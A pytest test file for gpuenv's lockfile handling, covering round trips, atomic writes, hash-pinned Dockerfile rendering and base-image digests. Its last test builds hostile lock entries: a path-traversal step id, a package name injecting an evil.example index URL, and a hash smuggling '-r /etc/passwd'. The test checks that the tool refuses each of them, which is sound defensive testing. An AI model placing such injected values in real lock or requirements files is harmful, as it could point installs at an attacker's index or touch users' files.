"""The gpuenv.lock format: a round trip, the plan as data renders the same files, atomic writes,
clear refusals; and the locked rendering (requirements files, --no-deps --require-hashes)."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from gpuenv.planning import TargetFlags, plan, request_from_spec, target_for
from gpuenv.errors import BadInput, GpuenvError
from gpuenv.lock import locked
from gpuenv.lock.lockfile import (BaseRef, ImageRef, Lock, Package, Step, from_data, plan_data, plan_from_data, read,
                                  to_text, write)
from gpuenv.render import render
from gpuenv.render.dockerfile import locked_file, pip_steps
from gpuenv.render.recipe import Inputs
from gpuenv.spec.write import spec_hash
from gpuenv.tomlcompat import tomllib

ROOT = Path(__file__).resolve().parents[3]
EXAMPLES = sorted(p.parent.name for p in (ROOT / "examples").glob("*/gpuenv.toml"))
FIXED = Inputs(uid=1000, gid=1000, ssh_key="/home/you/.ssh/id_ed25519.pub",
               tokens={"JUPYTER_TOKEN": "t", "GPUENV_GATEWAY_TOKEN": "g"})


def _planned(name: str):
    request, spec = request_from_spec(ROOT / "examples" / name / "gpuenv.toml")
    return plan(request, target_for(TargetFlags(), spec, probe=False)), spec


def _lock(plan_: object, spec: object) -> Lock:
    steps = (Step("frameworks", ("jax==0.10.2",), (Package("jax", "0.10.2", ("sha256:aa", "sha256:bb")),
                                                   Package("numpy", "2.1.3", ("sha256:cc",)))),
             Step("packages-1", ("matplotlib",), (Package("matplotlib", "3.9.2", ("sha256:dd",)),)),
             Step("system", (), (Package("wheel", "0.38.4", (), "not installed by pip"),)))
    return Lock(spec_hash(spec), "2026-11-22", "0.1.0", plan_data(plan_), BaseRef("gpuenv-base/debian:bookworm", "",
                "sha256:ff"), ImageRef("gpuenv-jax-cpu:123", "sha256:ee", ("127.0.0.1:5000/x@sha256:12",)),
                steps, (("ca-certificates", "20250419~deb12u2"),))


@pytest.mark.parametrize("name", EXAMPLES)
def test_the_plan_read_back_renders_the_same_files(name: str) -> None:
    plan_, spec = _planned(name)
    again = plan_from_data(tomllib.loads(to_text(_lock(plan_, spec)))["plan"])
    assert again == plan_
    assert render(again, spec, FIXED).files == render(plan_, spec, FIXED).files


def test_the_file_round_trips() -> None:
    made = _lock(*_planned("jax-cpu"))
    back = from_data(tomllib.loads(to_text(made)))
    assert back == made
    assert back.distributions() == {"jax": "0.10.2", "numpy": "2.1.3", "matplotlib": "3.9.2", "wheel": "0.38.4"}
    assert back.step("frameworks").hashed and not back.step("system").hashed


def test_write_is_atomic_and_leaves_no_temp_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = _lock(*_planned("jax-cpu"))
    write(made, tmp_path / "gpuenv.lock")
    assert read(tmp_path / "gpuenv.lock") == made

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt
    monkeypatch.setattr("os.replace", interrupted)                   # Ctrl-C just before the rename
    with pytest.raises(KeyboardInterrupt):
        write(dataclasses.replace(made, made="2026-12-01"), tmp_path / "gpuenv.lock")
    monkeypatch.undo()
    assert [p.name for p in tmp_path.iterdir()] == ["gpuenv.lock"]
    assert read(tmp_path / "gpuenv.lock") == made                   # the old lock is whole


def test_a_broken_lock_is_refused_with_the_fix(tmp_path: Path) -> None:
    path = tmp_path / "gpuenv.lock"
    with pytest.raises(BadInput, match="does not exist") as missing:
        read(path)
    assert "gpuenv lock" in missing.value.hint
    path.write_text("version = 1\nspec_sha256 = \"x\"\n")
    with pytest.raises(BadInput, match="not a gpuenv lock"):
        read(path)
    path.write_text("version = [")
    with pytest.raises(BadInput, match="not valid TOML"):
        read(path)
    path.write_text(to_text(dataclasses.replace(_lock(*_planned("jax-cpu")), version=9)))
    with pytest.raises(BadInput, match="version 9"):
        read(path)


def test_locked_refuses_without_a_lock_or_with_another_specs(tmp_path: Path) -> None:
    spec_file = tmp_path / "gpuenv.toml"
    spec_file.write_text((ROOT / "examples" / "jax-cpu" / "gpuenv.toml").read_text())
    plan_, spec = _planned("jax-cpu")
    with pytest.raises(BadInput, match="--locked needs") as none:
        locked.lock_for(spec_file, spec)
    assert f"gpuenv lock -f {spec_file}" in none.value.hint
    write(dataclasses.replace(_lock(plan_, spec), spec_sha256="0" * 64), tmp_path / "gpuenv.lock")
    with pytest.raises(BadInput, match="made from another gpuenv.toml"):
        locked.lock_for(spec_file, spec)


def test_the_locked_dockerfile_installs_exactly_each_steps_distributions() -> None:
    plan_, spec = _planned("jax-cpu")
    lock = _lock(plan_, spec)
    inputs = dataclasses.replace(FIXED, locked=locked.requirement_files(lock), base_ref="127.0.0.1:5000/b@sha256:99")
    rendered = render(plan_, spec, inputs)
    dockerfile = rendered.text("Dockerfile")
    assert "FROM 127.0.0.1:5000/b@sha256:99 AS system" in dockerfile
    assert ("--mount=type=bind,source=.gpuenv/lock/frameworks.txt,target=/tmp/gpuenv-lock/frameworks.txt"
            in dockerfile)
    uv = 'sh /tmp/gpuenv-lock/uv-install.sh "$(command -v python3)" --no-deps --require-hashes'
    assert f"{uv} -r /tmp/gpuenv-lock/frameworks.txt" in dockerfile
    assert f"{uv} -r /tmp/gpuenv-lock/packages-1.txt" in dockerfile
    assert "install jax==0.10.2" not in dockerfile and "install matplotlib" not in dockerfile
    text = rendered.text(locked_file("frameworks"))
    assert "jax==0.10.2 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb" in text
    assert rendered.image != render(plan_, spec, FIXED).image    # the pins are part of the content tag


def test_a_step_without_hashes_is_pinned_by_version() -> None:
    plan_, spec = _planned("jax-cpu")
    lock = _lock(plan_, spec)
    steps = (Step("frameworks", (), (Package("jax", "0.10.2", ("sha256:aa",)), Package("mine", "1.0", (), "local"))),)
    rendered = render(plan_, spec, dataclasses.replace(FIXED, locked=locked.requirement_files(
        dataclasses.replace(lock, steps=steps))))
    assert '"$(command -v python3)" --no-deps -r /tmp/gpuenv-lock/frameworks.txt' in rendered.text("Dockerfile")
    assert "mine==1.0\n" in rendered.text(locked_file("frameworks"))


def test_pip_steps_follow_the_dockerfile() -> None:
    plan_, spec = _planned("jax-cpu")
    assert pip_steps(render(plan_, spec, FIXED).recipe) == [
        ("frameworks", ("jax==0.10.2",)), ("tools", ("jupyterlab",)), ("packages-1", ("matplotlib",))]


def test_a_hash_mismatch_names_the_package() -> None:
    # as BuildKit logged pip 26.3's refusal (tests/integration/test_lock.py, 2026-11-22), shortened
    log = ("#11 0.919 ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE. If you have updated "
           "the package versions, please update the hashes. Otherwise, examine the package contents carefully; "
           "someone may have tampered with them.\n#11 0.919     matplotlib==3.9.2 from https://files.pythonhosted.org/"
           "packages/2e/a4/matplotlib-3.9.2-cp311-cp311-manylinux2014_x86_64.manylinux_2_17_x86_64.whl (from -r "
           "/tmp/gpuenv-lock/packages-1.txt (line 286)):\n"
           "#11 0.919         Expected sha256 0000\n#11 0.919              Got        8f1a\n")
    error = locked.explain(GpuenvError("the build failed at [stage-1 2/9] RUN ..."), log)
    assert "matplotlib==3.9.2" in error.message and "gpuenv.lock" in error.message
    other = GpuenvError("the build failed: no space left on device")
    assert locked.explain(other, "") is other


class _Engine:
    def __init__(self, images: dict) -> None:
        self.images = images

    def image(self, ref: str):
        return self.images.get(ref)


def test_the_base_is_pinned_by_its_own_repositorys_digest() -> None:
    from gpuenv.lock.collect import base_ref

    engine = _Engine({"python:3.11-slim": {"Id": "sha256:1", "RepoDigests": ["127.0.0.1:5000/other@sha256:9",
                                                                             "python@sha256:5"]},
                      "gpuenv-base/debian:bookworm": {"Id": "sha256:2", "RepoDigests": ["127.0.0.1:5000/x@sha256:9"]}})
    assert base_ref(engine, "python:3.11-slim").digest == "python@sha256:5"
    assert base_ref(engine, "gpuenv-base/debian:bookworm").digest == ""       # only pushed elsewhere
    assert base_ref(engine, "gpuenv-base/debian:bookworm").id == "sha256:2"


def test_locked_checks_a_base_without_digest_by_id() -> None:
    plan_, spec = _planned("jax-cpu")
    lock = _lock(plan_, spec)
    assert locked.pinned_base(lock, _Engine({"gpuenv-base/debian:bookworm": {"Id": "sha256:ff"}})) == \
        "gpuenv-base/debian:bookworm"
    with pytest.raises(GpuenvError, match="not sha256:ff|, not ff") as other:
        locked.pinned_base(lock, _Engine({"gpuenv-base/debian:bookworm": {"Id": "sha256:0123456789abcdef"}}))
    assert "0123456789ab" in other.value.message and "gpuenv lock" in other.value.hint
    with pytest.raises(GpuenvError, match="not on this engine"):
        locked.pinned_base(lock, _Engine({}))
    digested = dataclasses.replace(lock, base=BaseRef("python:3.11-slim", "python@sha256:5", "sha256:1"))
    assert locked.pinned_base(digested, _Engine({})) == "python@sha256:5"


@pytest.mark.parametrize("change", [
    lambda s: dataclasses.replace(s, id="../../../home/you/.bashrc"),
    lambda s: dataclasses.replace(s, packages=(Package("x\n--index-url https://evil.example/simple", "1.0"),)),
    lambda s: dataclasses.replace(s, packages=(Package("x", "1.0 --pre"),)),
    lambda s: dataclasses.replace(s, packages=(Package("x", "1.0", ("sha256:ab\n-r /etc/passwd",)),)),
])
def test_a_lock_from_elsewhere_can_add_no_path_option_or_line_to_the_files(tmp_path: Path, change) -> None:
    """Step ids become file names (.gpuenv/lock/<id>.txt) and pins lines of pip requirements files: a lock
    that carries anything but what gpuenv writes (a bundle's) is refused, exit 2 (issue 15)."""
    made = _lock(*_planned("jax-cpu"))
    hostile = dataclasses.replace(made, steps=(change(made.steps[0]), *made.steps[1:]))
    write(hostile, tmp_path / "gpuenv.lock")
    with pytest.raises(BadInput, match="not a gpuenv lock this gpuenv reads") as refused:
        read(tmp_path / "gpuenv.lock")
    assert refused.value.exit_code == 2
